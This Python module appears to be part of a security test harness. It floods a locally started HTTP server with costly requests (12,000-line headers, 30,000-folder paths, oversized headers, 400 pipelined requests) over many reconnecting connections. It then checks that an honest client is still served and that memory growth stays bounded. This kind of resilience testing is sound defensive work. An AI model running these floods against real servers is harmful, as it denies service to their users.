"""Requests that cost far more than they look like, by many connections as fast as can be."""

from __future__ import annotations

import multiprocessing
import select
import socket
import time
from contextlib import suppress
from pathlib import Path

from attacking.outcome import Outcome, attack
from attacking.victim import ATTACKER, Honest, Victim, victim

_SECONDS = 8.0
_AT_ONCE = 1.0
_MEGABYTES = 100.0
"""By so much the server's memory may grow, since it keeps what it has once taken."""

_HEAD = b"GET %s HTTP/1.1\r\nHost: 127.0.0.1\r\n%s\r\n"


@attack("heads of 12,000 lines, by 20 connections")
def lines(source: Path) -> Outcome:
    return _flooded(source, _HEAD % (b"/api/games", b"X:x\r\n" * 12_000), 20)


@attack("paths of 30,000 folders, by 5 connections")
def folders(source: Path) -> Outcome:
    return _flooded(source, _HEAD % (b"/" + b"a/" * 30_000, b""), 5)


@attack("pages asked for ahead of their answers, by 5 connections")
def ahead(source: Path) -> Outcome:
    return _flooded(source, _HEAD % (b"/", b"X: " + b"x" * 15_000 + b"\r\n"), 5)


@attack("400 requests at once, by 100 connections")
def pipelines(source: Path) -> Outcome:
    return _flooded(source, _HEAD % (b"/api/games", b"") * 400, 100)


def _flooded(source: Path, request: bytes, connections: int) -> Outcome:
    """Ask for the same again and again, and connect anew where one is sent away."""
    with victim(source) as running:
        before = running.megabytes()
        # By a process of its own, or the honest guest would wait for the attacker.
        flood = multiprocessing.get_context("fork").Process(
            target=_flood, args=(running, request, connections)
        )
        with Honest(running) as honest:
            flood.start()
            flood.join()
        grown = running.megabytes() - before
    held = honest.is_served(_AT_ONCE) and grown <= _MEGABYTES
    return Outcome(held, f"the memory grew by {grown:.0f} MB; {honest}")


class _Pipe:
    """A connection that is written to as far as it takes anything, and read."""

    def __init__(self, running: Victim, request: bytes) -> None:
        self.wire = socket.socket()
        self.wire.bind((ATTACKER, 0))
        self.wire.setblocking(False)
        with suppress(BlockingIOError):
            self.wire.connect(("127.0.0.1", running.port))
        self._request = self._rest = request

    def go_on(self, events: int) -> bool:
        """Read and write; return whether the connection is still there."""
        try:
            if events & select.EPOLLOUT:
                self._rest = self._rest[self.wire.send(self._rest) :] or self._request
            if events & ~select.EPOLLOUT:
                return bool(self.wire.recv(65_536))
        except BlockingIOError:
            return True
        except OSError:
            return False
        return True


def _flood(running: Victim, request: bytes, connections: int) -> None:
    due, poll = time.monotonic() + _SECONDS, select.epoll()
    pipes: dict[int, _Pipe] = {}

    def come() -> None:
        pipe = _Pipe(running, request)
        pipes[pipe.wire.fileno()] = pipe
        poll.register(pipe.wire, select.EPOLLIN | select.EPOLLOUT)

    for _ in range(connections):
        come()
    while time.monotonic() < due:
        for number, events in poll.poll(0.1):
            if not pipes[number].go_on(events):
                poll.unregister(number)
                pipes.pop(number).wire.close()
                come()
